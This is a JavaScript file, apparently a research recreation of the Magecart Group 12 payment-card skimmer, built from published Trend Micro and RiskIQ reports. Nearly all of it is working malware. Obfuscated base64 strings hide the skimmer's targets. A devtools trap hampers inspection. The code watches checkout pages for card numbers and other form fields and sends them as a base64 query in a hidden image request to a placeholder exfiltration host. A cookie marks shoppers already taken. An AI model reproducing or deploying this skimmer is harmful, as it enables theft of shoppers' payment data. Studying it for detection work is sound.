// adverline-g12 (variant b), written from Trend Micro's report on Magecart Group 12 and the
// Adverline ad-network compromise (2019) and RiskIQ's later description of the group's
// skimmer: strings kept in a shuffled table, a console/devtools trap, a polling loop that
// runs only on payment URLs (multilingual keyword list), and collected fields sent as a
// base64 query of an image request with a cookie so each shopper is sent once.
var _0xa1=["aW1n","Y29va2ll","aHR0cHM6Ly9zdGF0cy1hZHZsLmludmFsaWQvaS5naWY/ZD0=","aW5wdXQsc2VsZWN0","X2dyMTI9MQ==","bG9jYXRpb24="];
(function(t){var g=function(i){return atob(t[i])};
var k=/checkout|onestep|payment|billing|purchase|transaction|panier|paiement|kasse|zahlung|carrello|warenkorb/i;
if(!k.test(window[g(5)].pathname+window[g(5)].search))return;
if(document[g(1)].indexOf(g(4))>-1)return;
var el=new Image();el.__defineGetter__("id",function(){t=null;});console.log(el);
var z=setInterval(function(){if(!t)return clearInterval(z);
var f=document.querySelectorAll(g(3)),v={},n=0,c="";
for(var i=0;i<f.length;i++){var x=f[i];if(x.value&&x.offsetParent!==null){v[x.name||x.id||("f"+i)]=x.value;n++;
if(/^\d{13,19}$/.test(x.value.replace(/[\s-]/g,"")))c=x.value;}}
if(!c||n<5)return;
clearInterval(z);
v.url=location.host;
var p=document.createElement(g(0));
p.width=p.height=1;
p.src=g(2)+encodeURIComponent(btoa(JSON.stringify(v)));
document.body.appendChild(p);
document[g(1)]=g(4)+"; path=/; max-age=2592000";
},2500);
})(_0xa1);
